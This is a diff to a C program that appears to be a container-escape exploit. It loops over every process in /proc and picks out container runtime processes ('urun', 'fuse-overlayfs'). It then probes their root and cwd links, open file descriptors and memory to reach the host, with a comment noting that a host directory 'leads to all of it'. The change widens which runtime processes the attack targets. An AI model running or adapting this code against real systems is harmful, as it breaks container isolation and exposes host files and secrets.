@@ -30,7 +30,7 @@ static bool is_runtime(int proc, const char *pid, char *name, size_t size)
 		return false;
 	name[length] = '\0';
 	name[strcspn(name, "\n")] = '\0';
-	return strncmp(name, "urun", 4) == 0;
+	return strncmp(name, "urun", 4) == 0 || strncmp(name, "fuse-overlayfs", 14) == 0;
 }
 
 /* Follows the link, and climbs: what is below a directory of the host leads to all of it. */
@@ -103,19 +103,24 @@ int main(int argc, char **argv)
 	secret = argv[1];
 	printf("looking\n");
 	for (;;) {
-		for (int number = 2; number < 400; number++) {
-			char pid[16], name[32];
+		DIR *dir = opendir("/proc");
+		struct dirent *entry;
 
-			snprintf(pid, sizeof(pid), "%d", number);
-			if (!is_runtime(proc, pid, name, sizeof(name)))
+		while (dir && (entry = readdir(dir))) {
+			const char *pid = entry->d_name;
+			char name[32];
+
+			if (atoi(pid) < 2 || !is_runtime(proc, pid, name, sizeof(name)))
 				continue;
-			if (number != last)
+			if (atoi(pid) != last)
 				printf("saw %s %s\n", pid, name);
-			last = number;
+			last = atoi(pid);
 			try_directory(proc, pid, "root");
 			try_directory(proc, pid, "cwd");
 			try_descriptors(proc, pid);
 			try_memory(proc, pid);
 		}
+		if (dir)
+			closedir(dir);
 	}
 }
